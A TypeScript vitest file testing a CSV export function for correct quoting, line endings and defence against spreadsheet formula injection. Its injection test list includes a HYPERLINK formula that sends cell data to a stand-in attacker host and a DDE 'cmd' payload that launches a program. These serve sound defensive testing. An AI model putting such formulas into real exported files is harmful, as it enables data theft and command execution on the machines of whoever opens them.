import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv';

/** The fields of one line, read as RFC 4180 says. */
function read(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  );
}

describe('a table as CSV', () => {
  it('begins with a byte order mark and ends every line with CR and LF', () => {
    const csv = toCsv([
      ['이름', 'b'],
      [1, null],
    ]);

    expect(csv).toBe('\uFEFF"이름","b"\r\n1,\r\n');
    expect([...new TextEncoder().encode(csv)].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each([
    ['a comma', 'Kim, Minsu', '"Kim, Minsu"'],
    ['quotes', 'the "best"', '"the ""best"""'],
    ['a line break', 'one\r\ntwo', '"one\r\ntwo"'],
    ['nothing', '', ''],
  ])('keeps text with %s in one field', (_what, text, field) => {
    expect(toCsv([[text, 'next']])).toBe(`\uFEFF${field},"next"\r\n`);
  });

  it('leaves a line of nothing but empty fields a line', () => {
    expect(toCsv([[null, '', null]])).toBe('\uFEFF,,\r\n');
  });
});

describe('A34 text that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\tx',
    '\rx',
    '\nx',
    '\r\n=1',
    '  =1+1',
    '\u00A0=1',
    '\uFEFF=1',
    '\u200B=1',
    '\u202E=1',
    '\u3000＝1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '﹣1',
    // Where a semicolon ends a field, quotes do not hold it together.
    'a;=1+1',
    'a; "=1+1',
    'a;＝1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    '="a"\n+1',
  ])('is opened as text: %j', (text) => {
    const csv = toCsv([[text]]);

    expect(read(csv.slice(1, -2))).toEqual([`'${text}`]);
  });

  it.each([
    '김학생',
    'a=b',
    'x-y',
    '1 + 1',
    'name@example.org',
    "'tis",
    '(=)',
    '㈜한빛',
    '2026-11-29T21:00:00+09:00',
  ])('is not taken for what is none: %j', (text) => {
    expect(toCsv([[text]])).toBe(`\uFEFF"${text}"\r\n`);
  });

  it.each([
    [-1.5, '-1.5'],
    [0, '0'],
    [2 / 3, '0.6666666666666666'],
    [-0.25, '-0.25'],
  ])('is not taken for the number %d', (number, field) => {
    expect(toCsv([[number]])).toBe(`\uFEFF${field}\r\n`);
  });
});
